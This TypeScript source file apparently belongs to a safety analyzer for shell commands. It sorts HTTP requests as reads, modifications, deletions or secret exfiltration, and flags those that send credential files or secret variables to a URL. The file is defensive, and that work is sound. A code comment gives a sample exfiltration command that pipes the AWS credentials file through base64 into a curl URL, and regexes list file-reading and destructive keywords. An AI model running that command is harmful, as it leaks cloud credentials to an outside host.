import type { Effect } from '../../core/types.js';
import type { Word } from '../../shell/words.js';
import type { Invocation } from '../analyzer.js';
import { isSecretFile, secretContext } from '../exfiltration/secrets.js';
import { secretsInText, secretsOnStdin, secretsSubstituted, type Secret } from '../exfiltration/sources.js';
import { knownEndpoint } from './endpoints.js';
import { READS, type Body } from './known.js';
import { hostHints, isLocalScheme, isLoopback, parseUrl, type Url } from './url.js';

/** One request as a client would send it. */
export interface Request {
  tool: string;
  /** Upper-case method; undefined when it is not known before it runs (`-X "$METHOD"`). */
  method: string | undefined;
  urls: Word[];
  /** Files whose bytes go into the body (as written). */
  files: string[];
  /** Text that goes into the body as written (`-d 'k=v'`, `name=value`). */
  texts: Word[];
  /** The body is read from stdin. */
  stdin: boolean;
}

const READ_METHODS = new Set(['GET', 'HEAD', 'OPTIONS', 'TRACE']);
/** `$(cat FILE)`, `` `cat FILE` ``, `$(<FILE)`: a file read into the body. */
const READ_INTO = /(?:\$\(|`)\s*(?:(?:cat|base64|xxd|gzip\s+-c|head|tail)\s+(?:-\S+\s+)*|<\s*)([^)`\s;|&]+)/g;

/** The body reads stdin and something is there to read. */
export function hasStdin(inv: Invocation): boolean {
  return Boolean(inv.stdinFrom || inv.stdinText || inv.redirects.some((r) => r.operator === '<'));
}

/** What secrets a request sends: credential files, what reaches its stdin, and secret variables in its body. */
function secretsSent(req: Request, inv: Invocation): string[] {
  const ctx = secretContext(inv.facts);
  const files = [...req.files];
  for (const text of req.texts) for (const m of text.value.matchAll(READ_INTO)) files.push(m[1]!);
  const secrets: Secret[] = files.filter((f) => isSecretFile(f, ctx)).map((what) => ({ what }));
  if (req.stdin) secrets.push(...secretsOnStdin(inv, ctx));
  secrets.push(...secretsInText(req.texts, ctx));
  // `curl https://x.example/$(cat ~/.aws/credentials | base64)`: what a substitution puts in a URL or body.
  secrets.push(...secretsSubstituted([...req.urls, ...req.texts], inv, ctx));
  return [...new Set(secrets.map((s) => s.what))];
}

/** A POST that only asks (a GraphQL query that is not a mutation). */
function graphQlQuery(url: Url, req: Request): boolean {
  if (!/\/graphql\/?$/i.test(url.path) || !req.texts.length || req.files.length) return false;
  const body = req.texts.map((t) => t.value).join('\n');
  return (
    /"query"\s*:/.test(body) &&
    !/\bmutation\b/.test(body) &&
    !req.texts.some((t) => t.dynamic && /\$\(|`/.test(t.value))
  );
}

/** What the request sends, for the APIs that act by their body (Solr's `<delete>`, a Datadog downtime). */
function body(req: Request): Body {
  return {
    text: req.texts.map((t) => t.value).join('&'),
    unseen: req.stdin || req.files.length > 0 || req.texts.some((t) => t.dynamic),
  };
}

function methodEffect(req: Request, url: Url): Effect | undefined {
  const method = req.method;
  const target = `${method ?? '?'} ${url.text}`;
  const base = { tool: req.tool, target, hints: hostHints(url) };
  if (method === undefined)
    return {
      ...base,
      operation: 'modify',
      risk: 'medium',
      reversible: false,
      reason: `sends a request to ${url.text} with a method not known before it runs`,
    };
  const known = knownEndpoint(method, url, body(req));
  if (known === READS || (method === 'POST' && graphQlQuery(url, req))) return undefined;
  if (known)
    return {
      ...base,
      operation: known.operation,
      risk: known.risk,
      reversible: known.reversible,
      category: known.category,
      reason: `${method} ${url.text} ${known.what}`,
      hints: [...base.hints, ...(known.hints ?? [])],
    };
  if (READ_METHODS.has(method)) return undefined;
  if (method === 'DELETE')
    return {
      ...base,
      operation: 'delete',
      risk: 'high',
      reversible: false,
      reason: `deletes ${url.text} (HTTP DELETE)`,
    };
  // An API nobody recognised. What its path or a GraphQL mutation says it destroys is a delete; a PUT or
  // PATCH changes something that exists, and so does a call whose path deploys or releases: held. A POST
  // that creates (an issue, a webhook message, an upload), and anything sent to this machine (a dev
  // server), is everyday work: reported, low risk.
  const text = `${url.path} ${mutationText(req)}`;
  if (DESTROYING.test(text))
    return {
      ...base,
      operation: 'delete',
      risk: 'high',
      reversible: false,
      reason: `${method} ${url.text} destroys something (its path or mutation says so)`,
    };
  const changesExisting = method === 'PUT' || method === 'PATCH' || DEPLOYING.test(url.path);
  return {
    ...base,
    operation: 'modify',
    risk: changesExisting && !isLoopback(url) ? 'medium' : 'low',
    reversible: false,
    reason: `changes ${url.text} (HTTP ${method})`,
  };
}

/** Words of a path or mutation that destroy (`/users/1/delete`, `mutation { deleteUser … }`). */
const DESTROYING = /(^|[^a-z])(delete|destroy|drop|purge|truncate|wipe|remove|erase|terminate|deprovision)/i;
/** Words of a path that change what runs somewhere (`…/deploy`, `…/dispatches`, `/releases/…/publish`). */
const DEPLOYING = /(^|[^a-z])(deploy|deployments|dispatches|rollback|restart|scale|publish|promote|migrate)/i;

/** The body of a GraphQL mutation, if the request sends one (queries only read and never get here). */
function mutationText(req: Request): string {
  const body = req.texts.map((t) => t.value).join('\n');
  return /\bmutation\b/.test(body) ? body : '';
}

/** The effects of one request: what its method does at the URL, and any secret it sends away. */
export function requestEffects(req: Request, inv: Invocation): Effect[] {
  const effects: Effect[] = [];
  const secrets = secretsSent(req, inv);
  const urls = req.urls.map(parseUrl).filter((u) => !isLocalScheme(u));
  for (const url of urls) {
    const effect = methodEffect(req, url);
    if (effect) effects.push(effect);
    if (secrets.length)
      effects.push({
        operation: 'modify',
        tool: req.tool,
        target: url.text,
        reversible: false,
        risk: 'high',
        category: 'exfiltration',
        reason: `sends ${secrets.join(', ')} to ${url.text}`,
        hints: hostHints(url),
      });
  }
  return effects;
}
